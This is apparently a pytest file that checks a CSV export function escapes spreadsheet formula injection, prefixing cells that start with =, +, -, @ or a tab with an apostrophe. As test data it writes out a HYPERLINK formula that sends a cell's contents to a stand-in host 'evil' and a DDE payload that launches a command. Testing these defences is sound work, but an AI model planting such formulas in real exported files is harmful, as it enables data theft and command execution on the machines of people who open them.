"""Files for spreadsheets: what is a text stays one, sets are read by people, numbers stay numbers."""

import numpy as np
import pandas as pd
import pyarrow as pa
import pytest

from listing_vibes.market.io import spreadsheet_csv, write_table


def test_texts_stay_texts_and_numbers_numbers():
    formula = '=HYPERLINK("http://evil/?"&A1,"Click")'
    frame = pd.DataFrame(
        {
            "title": pd.Series([formula, "+1", "-2", "@a", "\tb", "a-b", None, "Größe"], dtype="str"),
            "has": [["Wifi", "Sauna"], [], None, ["=1", "2"], ["-"], ["a"], None, ["b"]],
            "change": [-1.5, 2.0, np.nan, 0.0, 1.0, 1.0, 1.0, 1.0],
            "any": [-1, "-1", None, 2.5, True, "x", "y", "z"],
            "=name": range(8),
        }
    )
    written = spreadsheet_csv(frame)
    lines = written.decode("utf-8-sig").split("\n")
    assert written.startswith(b"\xef\xbb\xbf") and len(lines) == 10
    assert lines[:4] == [
        "title,has,change,any,'=name",
        '"\'=HYPERLINK(""http://evil/?""&A1,""Click"")",Wifi; Sauna,-1.5,-1,0',
        "'+1,,2.0,'-1,1",
        "'-2,,,,2",
    ]
    assert lines[4:] == [
        "'@a,'=1; 2,0.0,2.5,3",
        "'\tb,'-,1.0,True,4",
        "a-b,a,1.0,x,5",
        ",,1.0,y,6",
        "Größe,b,1.0,z,7",
        "",
    ]
    assert frame["title"][0] == formula  # the table itself stays as it is


@pytest.mark.parametrize("kind", ["str", "object", "category", pd.ArrowDtype(pa.string())], ids=str)
def test_no_kind_of_text_is_run_as_a_formula_in_any_file_for_spreadsheets(kind, tmp_path):
    frame = pd.DataFrame({"user_id": pd.Series(["=cmd|' /C calc'!A0", "u2"], dtype=kind), "rank": [1, 2]})
    write_table(tmp_path / "queries.csv", frame)
    written = (tmp_path / "queries.csv").read_bytes()
    assert written == spreadsheet_csv(frame)
    cells = [line.split(",")[0] for line in written.decode("utf-8-sig").splitlines()]
    assert cells == ["user_id", "'=cmd|' /C calc'!A0", "u2"]
    assert pd.read_csv(tmp_path / "queries.csv")["rank"].tolist() == [1, 2]
